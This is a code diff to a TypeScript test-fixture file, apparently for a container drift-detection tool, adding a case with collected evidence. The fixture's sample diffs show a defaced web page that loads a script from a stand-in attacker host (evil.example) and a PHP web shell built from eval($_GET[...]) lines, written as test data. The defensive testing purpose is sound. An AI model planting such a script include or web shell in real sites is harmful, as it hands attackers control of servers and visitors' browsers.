@@ -19,6 +19,7 @@ export const cases: ReadonlyMap<string, () => Account> = new Map([
   ['pass-with-refused-writes', passesWithRefusedWrites],
   ['drift', drifts],
   ['drift-in-a-volume', driftsInVolume],
+  ['drift-with-evidence', driftsWithEvidence],
   ['drift-audit', () => ({ ...drifts(), mode: 'audit' as const })],
   ['drift-in-a-thousand-folders', driftsInManyFolders],
   ['pass-with-attacks', () => attackedBy(TRYINGS, passes())],
@@ -188,6 +189,35 @@ function drifts(): Account {
     changes: changes.map(made.change).sort((one, other) => (one.path < other.path ? -1 : 1)),
     places: [made.place('/', 'rootfs', 'names'), ...made.observation.places.slice(1)]
   })
+}
+
+/** What changed was kept, but for what is too large; and the container was committed. */
+function driftsWithEvidence(): Account {
+  const account = driftsInVolume()
+  const leftOut = new Map([['file-limit', 2]] as const)
+  const cut = makeFinding('evidence-cut', { ...made.plan.evidence, leftOut })
+  const page = [
+    '--- before/var/www/html/index.html',
+    '+++ after/var/www/html/index.html',
+    '@@ -1,2 +1,2 @@',
+    ' <h1>Shop</h1>',
+    '-<p>Welcome',
+    '+<p>Hacked <script src="https://evil.example/x.js"></script>',
+    ''
+  ]
+  const shell = Array.from({ length: 60 }, (_, n) => `+<?php eval($_GET[${n}]); ?>`)
+  return {
+    ...account,
+    judgement: withFindings(account.judgement, [cut]),
+    evidence: {
+      ...{ sha256: digest('e'), files: 9, bytes: 51_200, leftOut },
+      image: 'zero-drift-evidence:0123456789abcdef0123456789abcdef',
+      diffs: [
+        { path: '/var/www/html/index.html', text: page.join('\n') },
+        { path: '/var/www/html/shell.php', text: `--- /dev/null\n${shell.join('\n')}\n` }
+      ]
+    }
+  }
 }
 
 function driftsInManyFolders(): Account {
@@ -414,7 +444,13 @@ export function isHostile(): Account {
   const changes = ATTACKS.map((one) => ({ kind: 'added' as const, path: `/w/${one}`, place: '/' }))
   const after = { changes, partial: true, restart }
   const recovered = afresh({ failure: undefined, milliseconds: 1, after }, account)
-  return explainedBy(hostile, { ...recovered, log: ATTACKS.join('\n'), annotateFile: undefined })
+  const evidence = {
+    ...{ sha256: digest('e'), files: 1, bytes: 1, leftOut: new Map(), image: text },
+    diffs: ATTACKS.map((one) => ({ path: `/x/${one}`, text: ` ${one}\n${one}\n${text}\n` }))
+  }
+  const further = { log: ATTACKS.join('\n'), annotateFile: undefined, evidence }
+  const attacked = attackedBy(ATTACKS.map(made.landing), recovered)
+  return explainedBy(hostile, { ...attacked, ...further })
 }
 
 export const ATTACKS: readonly string[] = [
